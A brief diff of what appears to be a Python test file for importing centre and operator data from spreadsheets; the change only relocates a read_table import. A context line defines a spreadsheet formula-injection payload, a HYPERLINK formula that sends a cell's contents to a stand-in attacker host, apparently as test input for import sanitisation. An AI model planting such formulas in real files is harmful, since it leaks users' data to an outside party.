@@ -13,7 +13,7 @@ from openpyxl import load_workbook
 from degs.centres import importing, services
 from degs.centres.choices import IdStatus
 from degs.centres.models import Centre, Operator, OperatorId
-from degs.directory.tabular import read_table
+from degs.core.tabular import read_table
 
 LINK = '=HYPERLINK("http://evil.example/?d="&B2, "Details")'
 PHONE_LIKE = "+91 sum"
